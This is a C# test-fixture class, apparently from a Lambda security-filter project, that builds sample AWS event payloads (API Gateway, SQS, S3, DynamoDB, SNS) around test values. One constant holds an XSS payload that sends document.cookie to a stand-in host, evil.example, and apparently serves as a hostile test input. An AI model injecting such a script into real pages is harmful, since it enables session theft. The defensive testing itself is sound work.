using System.Text;
using System.Text.Json;

namespace FunctionShield.Lambda.Tests.Events;

/// <summary>Events in the shapes that AWS documents, each around one or more values that a test chooses.</summary>
internal static class SampleEvents
{
    public const string Attack = "<script>fetch('//evil.example/'+document.cookie)</script>";
    public const string Benign = "O'Brien & Sons; Ltd.";

    public static byte[] HttpV2(string q) => Utf8($$"""
        {"version":"2.0","routeKey":"$default","rawPath":"/search","rawQueryString":"q={{Uri.EscapeDataString(q)}}",
        "cookies":["session=abc123"],
        "headers":{"accept":"application/json","content-type":"application/json","host":"abc123.execute-api.eu-west-1.amazonaws.com","user-agent":"curl/8.5.0","x-forwarded-for":"203.0.113.7","x-forwarded-port":"443","x-forwarded-proto":"https"},
        "queryStringParameters":{"q":{{Json(q)}}},
        "requestContext":{"accountId":"123456789012","apiId":"abc123","domainName":"abc123.execute-api.eu-west-1.amazonaws.com","domainPrefix":"abc123","http":{"method":"GET","path":"/search","protocol":"HTTP/1.1","sourceIp":"203.0.113.7","userAgent":"curl/8.5.0"},"requestId":"JKJaXmPLvHcESHA=","routeKey":"$default","stage":"$default","time":"24/Nov/2026:09:00:00 +0000","timeEpoch":1795510800000},
        "isBase64Encoded":false}
        """);

    public static byte[] HttpV2Body(string body) => Utf8($$"""
        {"version":"2.0","routeKey":"POST /orders","rawPath":"/orders","rawQueryString":"",
        "headers":{"content-type":"application/json","host":"abc123.execute-api.eu-west-1.amazonaws.com"},
        "requestContext":{"accountId":"123456789012","apiId":"abc123","domainName":"abc123.execute-api.eu-west-1.amazonaws.com","domainPrefix":"abc123","http":{"method":"POST","path":"/orders","protocol":"HTTP/1.1","sourceIp":"203.0.113.7","userAgent":"curl/8.5.0"},"requestId":"JKJaXmPLvHcESHA=","routeKey":"POST /orders","stage":"$default","time":"24/Nov/2026:09:00:00 +0000","timeEpoch":1795510800000},
        "body":{{Json(body)}},"isBase64Encoded":false}
        """);

    public static byte[] HttpV1(string q) => Utf8($$"""
        {"resource":"/search","path":"/search","httpMethod":"GET",
        "headers":{"Accept":"application/json","Host":"abc123.execute-api.eu-west-1.amazonaws.com","User-Agent":"curl/8.5.0"},
        "multiValueHeaders":{"Accept":["application/json"],"Host":["abc123.execute-api.eu-west-1.amazonaws.com"],"User-Agent":["curl/8.5.0"]},
        "queryStringParameters":{"q":{{Json(q)}}},"multiValueQueryStringParameters":{"q":[{{Json(q)}}]},
        "pathParameters":null,"stageVariables":null,
        "requestContext":{"accountId":"123456789012","apiId":"abc123","domainName":"abc123.execute-api.eu-west-1.amazonaws.com","extendedRequestId":"request-id","httpMethod":"GET","identity":{"accessKey":null,"sourceIp":"203.0.113.7","userAgent":"curl/8.5.0","user":null},"path":"/prod/search","protocol":"HTTP/1.1","requestId":"c6af9ac6-7b61-11e6-9a41-93e8deadbeef","requestTime":"24/Nov/2026:09:00:00 +0000","requestTimeEpoch":1795510800000,"resourceId":"123456","resourcePath":"/search","stage":"prod"},
        "body":null,"isBase64Encoded":false}
        """);

    public static byte[] Sqs(params ReadOnlySpan<string> bodies) => SqsOf("arn:aws:sqs:eu-west-1:123456789012:orders", bodies, []);

    public static byte[] SqsFifo(ReadOnlySpan<string> bodies, ReadOnlySpan<string> groups) =>
        SqsOf("arn:aws:sqs:eu-west-1:123456789012:orders.fifo", bodies, groups);

    public static byte[] S3(params ReadOnlySpan<string> keys)
    {
        var records = new StringBuilder();
        foreach (string key in keys)
        {
            Separate(records).Append($$"""
                {"eventVersion":"2.1","eventSource":"aws:s3","awsRegion":"eu-west-1","eventTime":"2026-11-24T09:00:00.000Z","eventName":"ObjectCreated:Put",
                "userIdentity":{"principalId":"AWS:AIDAJDPLRKLG7UEXAMPLE"},"requestParameters":{"sourceIPAddress":"203.0.113.7"},
                "responseElements":{"x-amz-request-id":"C3D13FE58DE4C810","x-amz-id-2":"FMyUVURIY8/IgAtTv8xRjskZQpcIZ9KG4V5Wp6S7S/JRWeUWerMUE5JgHvANOjpD"},
                "s3":{"s3SchemaVersion":"1.0","configurationId":"uploads","bucket":{"name":"uploads","ownerIdentity":{"principalId":"A3NL1KOZZKExample"},"arn":"arn:aws:s3:::uploads"},
                "object":{"key":{{Json(Uri.EscapeDataString(key).Replace("%20", "+").Replace("%2F", "/"))}},"size":1024,"eTag":"d41d8cd98f00b204e9800998ecf8427e","sequencer":"0055AED6DCD90281E5"} } }
                """);
        }

        return Utf8($$"""{"Records":[{{records}}]}""");
    }

    public static byte[] DynamoDb(params ReadOnlySpan<string> comments)
    {
        var records = new StringBuilder();
        int number = 0;
        foreach (string comment in comments)
        {
            number++;
            Separate(records).Append($$"""
                {"eventID":"c4ca4238a0b923820dcc509a6f75849{{number}}","eventName":"INSERT","eventVersion":"1.1","eventSource":"aws:dynamodb","awsRegion":"eu-west-1",
                "dynamodb":{"ApproximateCreationDateTime":1795510800,"Keys":{"Id":{"N":"{{number}}"} },
                "NewImage":{"Id":{"N":"{{number}}" },"Comment":{"S":{{Json(comment)}}},"Blob":{"B":"aGVsbG8="},"Tags":{"SS":["new","eu"]} },
                "SequenceNumber":"{{SequenceNumber(number)}}","SizeBytes":59,"StreamViewType":"NEW_AND_OLD_IMAGES"},
                "eventSourceARN":"arn:aws:dynamodb:eu-west-1:123456789012:table/comments/stream/2026-11-24T00:00:00.000"}
                """);
        }

        return Utf8($$"""{"Records":[{{records}}]}""");
    }

    public static byte[] Sns(string message) => Utf8($$"""
        {"Records":[{"EventVersion":"1.0","EventSubscriptionArn":"arn:aws:sns:eu-west-1:123456789012:news:21be56ed-a058-49f5-8c98-aedd2564c486","EventSource":"aws:sns",
        "Sns":{"SignatureVersion":"1","Timestamp":"2026-11-24T09:00:00.000Z","Signature":"c2lnbmF0dXJl","SigningCertUrl":"https://sns.eu-west-1.amazonaws.com/SimpleNotificationService.pem","MessageId":"95df01b4-ee98-5cb9-9903-4c221d41eb5e","Message":{{Json(message)}},"MessageAttributes":{"Test":{"Type":"String","Value":"TestString"} },"Type":"Notification","UnsubscribeUrl":"https://sns.eu-west-1.amazonaws.com/?Action=Unsubscribe","TopicArn":"arn:aws:sns:eu-west-1:123456789012:news","Subject":"TestInvoke"} }]}
        """);

    public static string MessageId(int number) => $"059f36b4-87a3-44ab-83d2-66197{number:D7}";

    public static string SequenceNumber(int number) => $"1110000000000000000{number:D4}";

    public static byte[] Utf8(string text) => Encoding.UTF8.GetBytes(text);

    private static byte[] SqsOf(string queue, ReadOnlySpan<string> bodies, ReadOnlySpan<string> groups)
    {
        var records = new StringBuilder();
        for (int i = 0; i < bodies.Length; i++)
        {
            string fifo = groups.IsEmpty ? "" : $$""","MessageGroupId":{{Json(groups[i])}},"SequenceNumber":"1885{{i:D16}}","MessageDeduplicationId":"{{i}}" """;
            Separate(records).Append($$"""
                {"messageId":"{{MessageId(i + 1)}}","receiptHandle":"AQEBwJnKyrHigUMZj6rYigCgxlaS3SLy0a","body":{{Json(bodies[i])}},
                "attributes":{"ApproximateReceiveCount":"1","SentTimestamp":"1795510800000","SenderId":"AIDAIENQZJOLO23YVJ4VO","ApproximateFirstReceiveTimestamp":"1795510800001"{{fifo}}},
                "messageAttributes":{},"md5OfBody":"e4e68fb7bd0e697a0ae8f1bb342846b3","eventSource":"aws:sqs","eventSourceARN":"{{queue}}","awsRegion":"eu-west-1"}
                """);
        }

        return Utf8($$"""{"Records":[{{records}}]}""");
    }

    private static StringBuilder Separate(StringBuilder records) => records.Length == 0 ? records : records.Append(',');

    private static string Json(string text) => JsonSerializer.Serialize(text);
}
